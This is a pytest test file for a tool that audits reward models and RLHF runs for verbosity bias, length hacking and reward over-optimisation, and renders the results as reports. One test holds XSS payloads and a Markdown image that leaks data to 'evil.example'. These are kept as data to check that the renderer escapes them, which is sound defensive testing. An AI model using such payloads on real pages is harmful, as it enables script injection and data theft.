"""sentinel.report: Finding validation, JSON as the source of truth, exit codes, rendering."""

from __future__ import annotations

import json

import pytest

from sentinel.report import Effect, Finding, Report, Severity
from sentinel.report.stats import bootstrap_ci, holm_bonferroni, sign_flip_p_value, wilson_ci


def make_report():
    return Report(
        kind="reward-model", title="RM audit", seed=3, config={"alpha": 0.05},
        findings=[
            Finding("verbosity", "high", "Prefers verbose responses", score=0.8, confidence=0.99,
                    effect=Effect("mean reward shift", 0.7, 0.5, 0.9),
                    evidence=[{"text": "padded <b>", "reward": 1.2}]),
            Finding("tie_rate", Severity.INFO, "2% ties", score=0.02),
        ],
        metrics={"accuracy": 0.71},
    )


def test_finding_checks_ranges_and_reads_as_text():
    f = make_report().findings[0]
    assert str(f) == "Prefers verbose responses" and f == "verbosity"
    with pytest.raises(ValueError, match="score"):
        Finding("x", "low", "d", score=1.5)
    with pytest.raises(ValueError, match="unknown severity"):
        Finding("x", "urgent", "d")


def test_exit_code_follows_fail_on():
    r = make_report()
    assert r.exit_code("high") == 1 and r.exit_code("critical") == 0 and r.exit_code("info") == 1
    assert Report(kind="x").exit_code("info") == 0


def test_save_writes_json_then_renders_from_it(tmp_path):
    r = make_report()
    r.save(tmp_path)
    data = json.loads((tmp_path / "report.json").read_text())
    assert data["schema_version"] and data["package"]["version"] and data["seed"] == 3
    assert data["findings"][0]["effect"]["low"] == 0.5
    html = (tmp_path / "report.html").read_text()
    assert "Prefers verbose responses" in html and "padded &lt;b&gt;" in html  # escaped
    assert "95% CI" in (tmp_path / "report.md").read_text()
    again = Report.load(tmp_path)
    assert again.findings[0].effect.high == 0.9 and again.to_dict()["findings"] == data["findings"]


def test_stats_against_known_values():
    est, lo, hi = bootstrap_ci([1.0] * 50 + [0.0] * 50, seed=1)
    assert est == 0.5 and 0.39 < lo < 0.45 and 0.55 < hi < 0.61
    p, lo, hi = wilson_ci(0, 20)
    assert p == 0 and lo == 0 and 0.15 < hi < 0.17  # Wilson upper bound for 0/20 is 0.161
    assert holm_bonferroni([0.001, 0.04, 0.3]) == [True, False, False]
    assert sign_flip_p_value([1.0] * 30) < 0.001 and sign_flip_p_value([1, -1] * 15) > 0.5


# --------------------------------------------------------------------------------------- rendering for readers
def tiny_png(width: int = 3, height: int = 2) -> bytes:
    """A valid RGB PNG written by hand (no imaging library needed)."""
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def reader_report(**kw):
    base = {
        "kind": "demo", "title": "demo", "seed": 0,
        "model": {"policy": "runs/sft", "reward": {"path": "runs/rm", "params": 1200}},
        "findings": [
            Finding("reward-model/verbosity", "high", "Prefers padded replies", score=0.8,
                    effect=Effect("mean reward shift", 0.86, 0.7, 1.0),
                    evidence=[{"prompt": "What is 2 + 2?", "chosen": "4", "rejected": "4 river river", "shift": 0.9},
                              {"prompt": "a|b", "chosen": "x <b>", "rejected": "y", "extra": [1, 2]}]),
            Finding("ppo/length-hacking", "medium", "Length explains the gain", evidence=["step 10: r = 0.83"]),
            Finding("ppo/proxy-vs-gold", "info", "Proxy up, gold down"),
        ],
        "metrics": {"PPO/gold_accuracy": 0.25, "accuracy": {"value": 0.79, "low": 0.7, "high": 0.85, "n": 150},
                    "probes": {"verbosity": {"shift": 0.86, "p_value": 0.001}}},
        "figures": ["curve.png"],
    }
    base.update(kw)
    return Report(**base)


def test_html_embeds_its_figures_and_references_no_file(tmp_path):
    import base64
    import re

    png = tiny_png()
    (tmp_path / "curve.png").write_bytes(png)
    reader_report().save(tmp_path)
    html = (tmp_path / "report.html").read_text()
    sources = re.findall(r"<img[^>]*\ssrc=['\"]([^'\"]*)", html)
    assert len(sources) == 1 and sources[0].startswith("data:image/png;base64,")
    assert base64.b64decode(sources[0].split(",", 1)[1]) == png
    assert not re.search(r"src=['\"](?!data:)", html)  # no <img src="file.png"> (nor any other external source)
    assert "<script" not in html
    assert "![curve.png](curve.png)" in (tmp_path / "report.md").read_text()  # Markdown links the file beside it


def test_a_missing_or_outside_figure_is_a_visible_note_not_a_broken_image(tmp_path, caplog):
    (tmp_path / "secret.png").write_bytes(tiny_png())
    out = tmp_path / "report"
    reader_report(figures=["curve.png", "../secret.png"]).save(out)
    html = (out / "report.html").read_text()
    assert "<img" not in html
    assert "Figure curve.png could not be embedded: the file is missing" in html
    assert "Figure ../secret.png could not be embedded: it lies outside the report folder" in html
    assert "curve.png not embedded" in caplog.text


def test_evidence_identity_and_metrics_render_as_tables(tmp_path):
    import re

    reader_report().save(tmp_path)
    html = (tmp_path / "report.html").read_text()
    # the identity is a table, never a printed dict
    assert "{'" not in html and "<table class='identity'><tr><th>policy</th><td>runs/sft</td></tr>" in html
    assert "<tr><th>reward.params</th><td>1200</td></tr>" in html
    # evidence: one table per finding, mapping keys as columns (union, in order), one row per item, escaped
    tables = re.findall(r"<table class='evidence'>(.*?)</table>", html)
    assert len(tables) == 2
    assert tables[0].startswith("<tr><th>prompt</th><th>chosen</th><th>rejected</th><th>shift</th><th>extra</th></tr>")
    assert "<td>a|b</td><td>x &lt;b&gt;</td><td>y</td><td></td><td>[1, 2]</td>" in tables[0]
    assert tables[1] == "<tr><th>evidence</th></tr><tr><td>step 10: r = 0.83</td></tr>"
    assert "rejected: " not in html  # no run-on "key: value;" paragraph
    # metrics: nested mappings become dotted rows; an estimate reads as value with its CI
    assert "<td>probes.verbosity.p_value</td><td>0.001</td>" in html
    assert "<td>accuracy</td><td>0.79 (95% CI 0.7 to 0.85), n = 150</td>" in html
    md = (tmp_path / "report.md").read_text()
    assert "| prompt | chosen | rejected | shift | extra |" in md
    assert "| a\\|b | x &lt;b&gt; | y |  | \\[1, 2\\] |" in md  # HTML and brackets from the data stay text


def test_nothing_from_the_data_renders_as_markup_in_markdown(tmp_path):
    """Replies are data: an HTML payload or a Markdown image in a scanned reply stays text in report.md."""
    payloads = ["<img src=x onerror=alert(1)>", "![pixel](https://evil.example/p.png?leak=1)", "<script>x()</script>",
                "[click](javascript:alert(1))"]
    r = reader_report(findings=[Finding("scan/hidden_instruction", "high", "Flagged: " + payloads[0],
                                        evidence=[{"reply": p} for p in payloads] + payloads)],
                      notes=["note " + payloads[1]], title="scan of " + payloads[2])
    r.save(tmp_path)
    md = (tmp_path / "report.md").read_text()
    import re

    for bad in ("<img", "<script"):
        assert bad not in md, bad
    for link in (r"(?<!\\)\]\(https://evil", r"(?<!\\)\]\(javascript:"):  # a bracket not escaped opens a link
        assert not re.search(link, md), link
    assert "&lt;img src=x onerror=alert(1)&gt;" in md  # shown, not rendered


def test_summary_is_built_from_the_json():
    from sentinel.report.render import render_html
    from sentinel.report.summary import summarise

    d = reader_report().to_dict()
    s = summarise(d)
    assert s["tally"] == "3 findings: 1 high, 1 medium, 1 info."
    assert s["what_happened"][0] == "[high] reward-model/verbosity: Prefers padded replies"
    assert s["key_figures"][0] == ("reward-model/verbosity", "mean reward shift = 0.86 (95% CI 0.7 to 1)")
    assert s["next_steps"] == [("Act on the 1 finding at high severity or above first (reward-model/verbosity); the "
                                "evidence for each is below.")]
    # the producer's own sentences and key metrics win; a key metric the report lacks is said to be missing
    d = reader_report(summary=["PPO ran 3 steps."], key_metrics=["PPO/gold_accuracy", "nope"],
                      next_steps=["Stop at step 2."]).to_dict()
    s = summarise(d)
    assert s["what_happened"] == ["PPO ran 3 steps."] and s["next_steps"] == ["Stop at step 2."]
    assert s["key_figures"] == [("PPO/gold_accuracy", "0.25"), ("nope", "not in this report's metrics")]
    d["metrics"]["PPO/gold_accuracy"] = 0.5  # a figure in the summary follows the JSON it is rendered from
    assert "<tr><th>PPO/gold_accuracy</th><td>0.5</td></tr>" in render_html(d)
    quiet = summarise(Report(kind="scan", findings=[Finding("x", "info", "fine")]).to_dict())
    assert quiet["next_steps"] == ["Nothing above info severity: this report asks for no action."]
    assert summarise(Report(kind="scan").to_dict())["tally"] == "No findings."
    html = render_html(d)
    assert html.index("id='summary'") < html.index("What was examined") < html.index("Findings (3)")


def test_moving_average_on_hand_computed_values():
    import math

    from sentinel.report.stats import moving_average

    assert moving_average([1, 2, 3, 4, 5], 3) == [1.5, 2.0, 3.0, 4.0, 4.5]
    assert moving_average([1, None, 3, float("nan")], 3) == [1.0, 2.0, 3.0, 3.0]
    assert moving_average([2, 4], 1) == [2.0, 4.0]
    assert math.isnan(moving_average([None, None], 1)[0])
    with pytest.raises(ValueError, match="window"):
        moving_average([1.0], 0)


def test_demo_summary_follows_the_numbers():
    """The demo's summary sentences and next steps are read from the report's metrics and findings."""
    from sentinel.demo.tables import demo_summary

    metrics = {"ppo/steps": 150, "ppo/seeds": 3, "ppo/window": 7, "ppo/proxy_first": -1.33, "ppo/proxy_last": 2.0,
               "ppo/gold_first": 0.3, "ppo/gold_peak": 0.6, "ppo/gold_peak_step": 20, "ppo/gold_last": 0.0,
               "ppo/seed_list": [0, 1, 2], "ppo/seed_0/first_high_alarm_step": 25,
               "ppo/seed_1/first_high_alarm_step": 15, "ppo/seed_2/first_high_alarm_step": None,
               "ppo/gao_alpha": 0.9, "ppo/gao_beta": 0.5, "ppo/gao_r2": 0.71,
               "SFT/gold_accuracy": 0.975, "PPO/gold_accuracy": 0.0, "DPO/gold_accuracy": 0.917,
               "mitigation/winner": None, "mitigation/winner_reason": "strong-kl ended highest (+0.30), but on one "
               "seed a lead cannot be told from the seeds' spread"}
    findings = [{"id": "reward-model/verbosity", "severity": "high"},
                {"id": "ppo/proxy-vs-gold", "severity": "info", "data": {}}]
    d = {"metrics": metrics, "findings": findings, "config": {"eval_prompts": 120, "ppo_kl_coef": 0.002}}
    what, steps = demo_summary(d)
    assert what[0] == ("PPO against the reward model trained on the biased preferences ran 150 steps: proxy reward "
                       "-1.33 -> +2.00, gold reward +0.30 -> +0.00 (peak +0.60 at step 20), on the mean of 3 seeds, "
                       "trailing means over 7 steps.")
    assert what[1] == ("That is over-optimisation: the proxy rose by 3.33 while gold rose +0.30 to its peak and then "
                       "ended 0.60 below it.")
    assert what[2].startswith("Gao et al.'s RL form") and "R-squared 0.71" in what[2]
    assert what[3] == ("The guard's first high alarm was raised at step 25 (seed 0), 15 (seed 1); 1 of 2 at or after "
                       "the gold peak of the mean curve (step 20); no high alarm in 1 seed(s).")
    assert what[4] == "The reward-model audit flagged 1 bias: verbosity."
    assert what[5] == "Greedy gold accuracy on 120 eval prompts: SFT 0.975, PPO 0.000, DPO 0.917."
    assert what[6].startswith("Mitigations: strong-kl ended highest") and "one seed" in what[6]
    assert steps[0].startswith("Do not keep the final PPO policy: its gold reward ended 0.60 below its peak at step 20")
    assert "fixed coefficient 0.002" in steps[0] and "rewards verbosity" in steps[1]
    assert steps[2].startswith("Of the three policies, SFT keeps the most gold accuracy (0.975)")
    # one seed: the curve is called noise; gold that only fell is not called over-optimisation after a rise
    fell = {**metrics, "ppo/seeds": 1, "ppo/gold_first": 0.6, "ppo/gold_peak_step": 7}
    what, _ = demo_summary({"metrics": fell, "findings": findings, "config": {}})
    assert "one seed (a single seed's curve is noise" in what[0]
    assert what[1].startswith("The proxy rose by 3.33 while gold never rose")
    # a healthy run: gold holds, no alarm, a clean reward model -> no over-optimisation claim, nothing to act on
    healthy = {**metrics, "ppo/gold_peak": 0.7, "ppo/gold_peak_step": 150, "ppo/gold_last": 0.7,
               "PPO/gold_accuracy": 0.98, "ppo/seed_0/first_high_alarm_step": None,
               "ppo/seed_1/first_high_alarm_step": None}
    what, steps = demo_summary({"metrics": healthy, "findings": findings[1:], "config": {}})
    assert not any("over-optimisation" in w for w in what)
    assert "The guard raised no high alarm during PPO." in what
    assert steps == [("Nothing in this run asks for action: gold did not fall after its peak, PPO kept the start "
                      "policy's gold accuracy, and the audit flagged nothing at high severity.")]


def test_what_happened_names_the_findings_it_has_no_room_for():
    from sentinel.report.summary import summarise

    findings = [Finding(f"probe/{i}", "high", f"strong effect {i}") for i in range(3)]
    findings.append(Finding("probe/weak", "low", "a small effect"))
    what = summarise(Report(kind="audit", title="t", findings=findings).to_dict())["what_happened"]
    assert len(what) == 4 and what[-1] == "1 more finding below: probe/weak (low)."
